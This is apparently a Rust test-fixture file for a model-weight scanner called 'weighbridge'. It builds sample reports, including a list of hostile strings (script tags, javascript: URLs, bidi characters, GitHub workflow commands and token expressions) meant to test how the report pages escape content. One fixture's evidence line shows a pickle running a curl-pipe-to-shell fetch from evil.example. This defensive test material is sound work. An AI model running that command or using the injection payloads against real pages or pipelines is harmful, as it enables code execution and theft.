//! Reports made by hand, each a page that people will meet.

use serde_json::{Value, json};
use weighbridge::verdict::Report;

/// Every report, by the name of its page.
pub fn all() -> Vec<(String, Report)> {
    let mut all: Vec<(&str, Report)> = vec![
        ("passed", passed()),
        ("failed", failed()),
        ("mixed", mixed()),
        ("findings-51", many(51)),
        ("findings-120", many(120)),
        ("shards-40", shards()),
        ("unread", unread()),
        ("not-judged", not_judged()),
        ("audit", audit()),
        ("waivers", waivers()),
        ("unchanged", unchanged()),
        ("changed", changed()),
        ("warnings", warnings()),
        ("facts", facts()),
        ("long", long()),
        ("artifacts-5000", crowd()),
        ("remedies-400", remedies()),
    ];
    all.push(("nothing", report(&[], json!({}))));
    let mut all: Vec<(String, Report)> = all.into_iter().map(|(name, report)| (name.to_owned(), report)).collect();
    all.extend(HOSTILE.iter().zip(0..).map(|(text, number)| {
        // Where there is no text, a page has less.
        let kind = if text.trim().is_empty() { "blank" } else { "hostile" };
        (format!("{kind}-{number:02}"), hostile(text))
    }));
    all
}

/// What Markdown, HTML and GitHub would read as more than text. The first is harmless: the others make the same page of it.
pub const HOSTILE: &[&str] = &[
    "word",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "<!-- weighbridge --> --> <!--",
    "@octocat and @github/security, @octocat's @octocat. (@octocat) x@octocat",
    "#1 GH-1 octocat/hello#1 octocat/hello@0123456789abcdef 0123456 0123456789abcdef0123456789abcdef01234567 defaced",
    "https://evil.example/ http://evil.example www.evil.example ftp://evil.example mailto:a@evil.example a@evil.example xmpp:a@evil.example",
    "![pixel](https://evil.example/x.png) [text](https://evil.example) [ref]: https://evil.example <https://evil.example>",
    ":boom: :+1: a:boom:b 12:100:30 1:1234:1 5:-1:5",
    "a | b \\| c \\\\| d ||| `|` `a|b`",
    "line\nbreak\r\n\r\n# heading\n\n- item\n\n---\n\n```\nfence\n```",
    "``` ```` ~~~ `` ` ````` ```yaml",
    "`code` ``code`` ` open `@octocat #1` `` ` `` $`x`$ (`a`) `b`'s `` @octocat",
    "$x$ $$\\frac{1}{0}$$ \\(x\\) $`x^2`$ ```math",
    "[^1] [^1]: footnote",
    "> [!CAUTION]\n> alert",
    "- [ ] task\n- [x] done\n* star\n+ plus\n1. one\n1) one",
    "*a* **b** __c__ _d_ ~~e~~ ==f== <kbd>g</kbd> <u>h</u> *",
    "# heading",
    "1. list",
    "- list",
    "= setext\n===\n---",
    "&lt;b&gt; &#64;octocat &amp;amp; &copy; &nbsp;",
    "</details></summary></code></table> <details open><summary>x",
    "\u{1b}[31m\u{202e}abc\u{2066}\u{200b}\u{feff}\u{0}\u{9b}2J\u{e0041}",
    "::error::x\n::add-mask::y ##[command]z",
    "\\ \\` \\@octocat \\\\ \\u{202e} \\x1b \\",
    " ",
    "",
    "  spaces  inside  and around  ",
    "`",
    "'`' \"`a`\" (`) `)`",
    "J\u{fc}rgen \u{91cd}\u{307f} \u{5d0}\u{5d1}\u{5d2} e\u{301}\u{301}\u{301} \u{1f4a5} \u{ff20}octocat",
    "javascript:alert(1) data:text/html,x [a](javascript:alert(1))",
    "    indented code",
    "|---|---|\n| a | b |",
    "{% raw %} {{ x }} <%= x %> ${{ github.token }}",
    "https://github.com/octocat/hello/pull/1 github.com/octocat/hello/issues/2",
];

pub fn digest(digit: &str) -> Value {
    json!({"sha256": digit.repeat(64)})
}

pub fn finding(rule: &str, level: &str, place: &str, offset: u64) -> Value {
    json!({
        "rule": rule, "level": level, "title": "A pickle calls something that is not allowed",
        "message": "`mylib.load` is called when the file is loaded, and the allow list does not permit that.",
        "place": place, "file": place.split('!').next(), "member_digest": digest("b"), "offset": offset,
        "evidence": format!("{offset}: GLOBAL 'mylib load'\n{}: REDUCE mylib.load('weights', 3)", offset + 9),
        "remedy": "Save the weights without this object (a state_dict, or safetensors). If you know that it is safe, add the entry below to `allow:` in `weighbridge.yaml`, and have that merged first.",
        "allow": "# weighbridge.yaml\nallow:\n  - global: mylib.load\n    as: [call]\n    arguments: [text, integer]\n    reason: why it is safe\n",
        "denies_from": null, "waived": null, "not_waived": null
    })
}

pub fn dangerous(place: &str) -> Value {
    let mut finding = finding("pickle/dangerous-call", "deny", place, 111);
    finding["title"] = "A pickle calls something dangerous".into();
    finding["message"] = "`posix.system` is called when the file is loaded: starts programs and changes files.".into();
    finding["evidence"] = "111: REDUCE posix.system('curl -s https://evil.example/x.sh | sh')".into();
    finding["remedy"] = "Do not load this file. If it came from somewhere else, report it there. If it is your own, save the weights alone (a state_dict, or safetensors).".into();
    finding["allow"] = Value::Null;
    finding
}

fn named(place: &str) -> Value {
    let mut finding = finding("core/name-disagreement", "warn", place, 0);
    finding["title"] = "The name says another format".into();
    finding["message"] = "The name promises `safetensors`, and the content is `zip`.".into();
    finding["remedy"] = "Give the file the extension of its format.".into();
    for field in ["offset", "evidence", "allow"] {
        finding[field] = Value::Null;
    }
    finding
}

pub fn artifact(path: &str, verdict: &str, findings: &[Value], incomplete: &[Value]) -> Value {
    json!({
        "path": path, "kind": "file", "digest": digest("a"), "size": 1_234_567, "formats": ["zip", "torch"], "verdict": verdict,
        "findings": findings, "incomplete": incomplete, "excluded": [], "members": 5, "files": []
    })
}

fn rules() -> Value {
    let rule = |id: &str, title: &str, description: &str, page: &str| {
        json!({"id": id, "title": title, "description": description, "level": "deny", "message": "", "remedy": "",
            "since": "0.1.0", "effective_on": null, "related_resources": [page]})
    };
    json!([
        rule(
            "pickle/unlisted-call",
            "A pickle calls something that is not allowed",
            "A pickle is no plain data: loading it calls the functions and classes that it names. Only those on the allow\nlist may be called, each in the way its entry says. This one is not on the list, or is used in another way.\n\nWhat is called runs with all the rights of the process that loads the model. Not being listed does not mean\nthat it is harmful: it means that nobody has said yet why it is safe.",
            "https://docs.python.org/3/library/pickle.html#restricting-globals"
        ),
        rule(
            "pickle/dangerous-call",
            "A pickle calls something dangerous",
            "The pickle calls a function that starts programs, changes files or runs code that it is given.\n\nIt runs as soon as the file is loaded, before any weight is used.",
            "https://docs.python.org/3/library/pickle.html"
        ),
    ])
}

/// A report over artifacts; `more` replaces keys of it.
pub fn report(artifacts: &[Value], more: Value) -> Report {
    let count = |verdict: &str| artifacts.iter().filter(|artifact| artifact["verdict"] == verdict).count();
    let errors = more["errors"].as_array().map_or(0, Vec::len);
    let failed = errors > 0 || count("failed") > 0;
    let mut value = json!({
        "schema": "weighbridge/report/v1", "tool": {"version": "0.1.0"}, "evaluated_at": "2026-01-31T12:00:00Z",
        "judged_from": "content", "verdict": if failed { "failed" } else { "passed" },
        "audit": false, "waivers": [], "rules": rules(),
        "policy": {
            "digest": format!("sha256:{}", "c".repeat(64)), "base": "1f2e3d4c5b6a79880716253443526170f1e2d3c4",
            "sources": [{"name": "embedded", "layer": "embedded", "digest": format!("sha256:{}", "d".repeat(64)), "rules": 30}]
        },
        "artifacts": artifacts, "errors": [],
        "summary": {"artifacts": artifacts.len(), "passed": count("passed"), "failed": count("failed"), "denied": 0, "warned": 0,
            "waived": 0, "incomplete": 0, "excluded": 0}
    });
    for (key, replaced) in more.as_object().unwrap() {
        value[key] = replaced.clone();
    }
    serde_json::from_value(value).unwrap()
}

fn passed() -> Report {
    let paths = ["models/encoder.safetensors", "models/decoder.safetensors", "models/tokenizer"];
    report(&paths.map(|path| artifact(path, "passed", &[], &[])), json!({}))
}

fn failed() -> Report {
    let place = "models/checkpoint.pt!archive/data.pkl";
    let artifacts = [
        artifact("models/checkpoint.pt", "failed", &[dangerous(place)], &[]),
        artifact("models/encoder.safetensors", "passed", &[], &[]),
    ];
    report(&artifacts, json!({}))
}

/// A finding of every kind in one artifact.
pub fn mixed() -> Report {
    let place = "models/checkpoint.pt!archive/data.pkl";
    let unread = json!({"place": "models/checkpoint.pt!archive/extra", "file": "models/checkpoint.pt", "kind": "encrypted", "what": "AES-256", "offset": 77, "waived": false});
    let mut waived = finding("container/duplicate-name", "deny", "models/checkpoint.pt", 0);
    waived["waived"] = json!({"reason": "reviewed by hand", "approver": "a team", "approver_proof": "declared", "expires": "2026-12-31T00:00:00Z"});
    let findings =
        [dangerous(place), finding("pickle/unlisted-call", "deny", place, 42), waived, named("models/checkpoint.pt")];
    let artifacts = [
        artifact("models/checkpoint.pt", "failed", &findings, &[unread]),
        artifact("models/renamed.safetensors", "passed", &[named("models/renamed.safetensors")], &[]),
        artifact("models/encoder.safetensors", "passed", &[], &[]),
    ];
    report(&artifacts, json!({}))
}

/// One file with many findings, of three rules and many functions.
pub fn many(count: u64) -> Report {
    let place = "models/checkpoint.pt!archive/data.pkl";
    let findings: Vec<Value> = (0..count)
        .map(|index| {
            let rule = ["pickle/unlisted-call", "pickle/unlisted-call", "pickle/unlisted-import"]
                [usize::try_from(index % 3).unwrap()];
            let mut one = finding(rule, "deny", place, index * 100);
            one["message"] = format!(
                "`mylib.layer{}` is called when the file is loaded, and the allow list does not permit that.",
                index % 17
            )
            .into();
            one["allow"] = format!(
                "# weighbridge.yaml\nallow:\n  - global: mylib.layer{}\n    as: [call]\n    reason: why it is safe\n",
                index % 17
            )
            .into();
            if rule == "pickle/unlisted-import" {
                one["title"] = "A pickle imports something that is not allowed".into();
            }
            one
        })
        .collect();
    report(&[artifact("models/checkpoint.pt", "failed", &findings, &[])], json!({}))
}

fn shards() -> Report {
    let findings: Vec<Value> = (1..=40)
        .map(|shard| {
            finding(
                "pickle/unlisted-call",
                "deny",
                &format!("models/big/pytorch_model-{shard:05}-of-00040.bin!archive/data.pkl"),
                42,
            )
        })
        .collect();
    let mut one = artifact("models/big", "failed", &findings, &[]);
    one["kind"] = "directory".into();
    one["formats"] = json!(["directory"]);
    one["members"] = 12_345.into();
    one["size"] = 140_000_000_000_u64.into();
    report(&[one], json!({}))
}

fn unread() -> Report {
    let record = |name: &str, kind: &str, what: &str| json!({"place": name, "file": "models/x.7z", "kind": kind, "what": what, "offset": null, "waived": false});
    let mut told = finding("core/incomplete", "deny", "models/weights.onnx", 0);
    told["title"] = "Not all of it was read".into();
    told["message"] = "The format is recognised and not read: onnx.".into();
    told["remedy"] =
        "Convert it to a format that is read (`weighbridge formats` lists them), or have the finding waived.".into();
    for field in ["offset", "evidence", "allow"] {
        told[field] = Value::Null;
    }
    let artifacts = [
        artifact("models/weights.onnx", "failed", &[told], &[record("models/weights.onnx", "unsupported", "onnx")]),
        artifact(
            "models/x.7z",
            "failed",
            &[],
            &[
                record("models/x.7z!a/secret.bin", "encrypted", "AES-256"),
                record("models/x.7z!b", "truncated", "the stream ends after 17 bytes"),
            ],
        ),
    ];
    report(&artifacts, json!({}))
}

fn not_judged() -> Report {
    let errors = json!([
        {"path": "models/locked", "kind": "unreadable", "message": "models/locked: cannot be opened: Permission denied (os error 13). Give the user who runs the check the right to read it."},
        {"path": "models/*.pt", "kind": "missing", "message": "models/*.pt: nothing matches this pattern. Correct the path, or remove it from the command."},
    ]);
    report(&[artifact("models/encoder.safetensors", "passed", &[], &[])], json!({"errors": errors}))
}

fn audit() -> Report {
    let mut one = serde_json::to_value(failed()).unwrap();
    one["audit"] = true.into();
    serde_json::from_value(one).unwrap()
}

/// An organisation's policy, with waivers in every state.
pub fn waivers() -> Report {
    let waiver = |state: &str, why: Value| {
        json!({
            "rule": "core/unknown-format", "digest": digest("b"), "path": format!("models/{state}.bin"), "reason": "Looked at by hand; it is a vocabulary.",
            "approver": "platform@example.org", "approver_proof": "declared", "created": "2026-01-01T00:00:00Z", "expires": "2026-03-01T00:00:00Z",
            "file": "weighbridge-waivers.yaml", "line": 2, "state": state, "why": why
        })
    };
    let waivers = json!([
        waiver("used", Value::Null),
        waiver("unused", "no finding of this run is the one that it names; remove it".into()),
        waiver("expired", "it expired on 2026-01-15T00:00:00Z".into()),
        waiver("expiring", "it expires on 2026-02-05T00:00:00Z, in 5 days".into()),
        waiver("refused", "the organisation lets no one waive `core/unknown-format` for more than 30 days".into()),
    ]);
    let mut over = finding("pickle/unlisted-call", "deny", "models/big/b.pkl", 2);
    over["not_waived"] =
        "a waiver by platform@example.org (weighbridge-waivers.yaml:9) expired on 2026-01-15T00:00:00Z".into();
    let mut early = finding("ours/rule", "warn", "models/big/a.pkl", 1);
    early["denies_from"] = "2026-06-01".into();
    let mut accepted = finding("core/unknown-format", "deny", "models/used.bin", 0);
    accepted["waived"] = json!({"reason": "Looked at by hand", "approver": "platform@example.org", "approver_proof": "declared", "expires": "2026-03-01T00:00:00Z"});
    let mut one = artifact("models/big", "failed", &[over, accepted, early], &[]);
    one["kind"] = "directory".into();
    one["excluded"] = json!(["models/big/docs/x.md", "models/big/docs/y.md"]);
    let mut value = serde_json::to_value(report(&[one], json!({"waivers": waivers}))).unwrap();
    for (layer, name, rules) in [("organisation", "../policy", 4), ("repository", "weighbridge.yaml", 0)] {
        let source =
            json!({"name": name, "layer": layer, "digest": format!("sha256:{}", "e".repeat(64)), "rules": rules});
        value["policy"]["sources"].as_array_mut().unwrap().push(source);
    }
    serde_json::from_value(value).unwrap()
}

const BASE: &str = "9f8e7d6c5b4a39281706f5e4d3c2b1a098765432";

fn unchanged() -> Report {
    report(&[], json!({"changed": {"since": "origin/main", "base": BASE, "files": 3, "unchanged": 12}}))
}

fn changed() -> Report {
    let mut one = serde_json::to_value(failed()).unwrap();
    one["changed"] = json!({"since": "origin/main", "base": BASE, "files": 3, "unchanged": 12});
    serde_json::from_value(one).unwrap()
}

fn warnings() -> Report {
    let artifacts = ["a", "b", "c"].map(|name| {
        let path = format!("models/{name}.safetensors");
        artifact(&path, "passed", &[named(&path)], &[])
    });
    report(&artifacts, json!({}))
}

fn facts() -> Report {
    let mut one = serde_json::to_value(passed()).unwrap();
    one["judged_from"] = "facts".into();
    serde_json::from_value(one).unwrap()
}

/// A message of 70 kB, evidence and a name beside it.
fn long() -> Report {
    let path = format!("models/{}.pkl", "long-name/".repeat(400));
    let mut one = finding("pickle/unlisted-call", "deny", &path, 42);
    one["message"] = "The argument `x` is \\u{202e}text. ".repeat(70_000 / 33).into();
    one["evidence"] = format!("42: {}\n", "A".repeat(700)).repeat(100).into();
    let mut other = finding("pickle/unlisted-import", "deny", &path, 43);
    other["message"] = "A".repeat(70_000).into();
    report(&[artifact(&path, "failed", &[one, other], &[])], json!({}))
}

/// Findings of one rule that all have another remedy, and as many places that were not read.
fn remedies() -> Report {
    let path = "models/odd.pkl";
    let findings: Vec<Value> = (0..400)
        .map(|index| {
            let mut one = finding("pickle/unlisted-call", "deny", path, index);
            one["remedy"] = format!("Do this, or that, or the thing of number {index}.").into();
            one
        })
        .collect();
    let unread = |index| json!({"place": format!("{path}!{index}"), "file": path, "kind": "limit", "what": "depth", "offset": index, "waived": false});
    report(&[artifact(path, "failed", &findings, &(0..400).map(unread).collect::<Vec<_>>())], json!({}))
}

/// 5,000 artifacts, 385 of them failed.
pub fn crowd() -> Report {
    let artifacts: Vec<Value> = (0..5000)
        .map(|index| {
            let path = format!("registry/team-{:02}/model-{index:04}/weights.pkl", index % 37);
            if index % 13 == 0 {
                artifact(&path, "failed", &[finding("pickle/unlisted-call", "deny", &path, 42), dangerous(&path)], &[])
            } else {
                artifact(&path, "passed", &[], &[])
            }
        })
        .collect();
    report(&artifacts, json!({}))
}

/// Every kind of record, with every text of it hostile.
pub fn hostile(text: &str) -> Report {
    let mut value = serde_json::to_value(mixed()).unwrap();
    let governed = serde_json::to_value(waivers()).unwrap();
    for key in ["waivers", "policy"] {
        value[key] = governed[key].clone();
    }
    let findings = governed["artifacts"][0]["findings"].as_array().unwrap().clone();
    value["artifacts"][0]["findings"].as_array_mut().unwrap().extend(findings);
    value["errors"] = serde_json::to_value(not_judged()).unwrap()["errors"].clone();
    value["changed"] = json!({"since": "", "base": "", "files": 3, "unchanged": 12});
    poison(&mut value, text);
    serde_json::from_value(value).unwrap()
}

/// Replaces every text that is not an enumeration's word.
fn poison(value: &mut Value, hostile: &str) {
    const WORDS: [&str; 8] = ["schema", "judged_from", "verdict", "level", "kind", "layer", "state", "approver_proof"];
    match value {
        Value::Object(fields) => {
            for (name, value) in fields {
                if !WORDS.contains(&name.as_str()) {
                    poison(value, hostile);
                }
            }
        }
        Value::Array(items) => items.iter_mut().for_each(|item| poison(item, hostile)),
        Value::String(text) => hostile.clone_into(text),
        _ => {}
    }
}
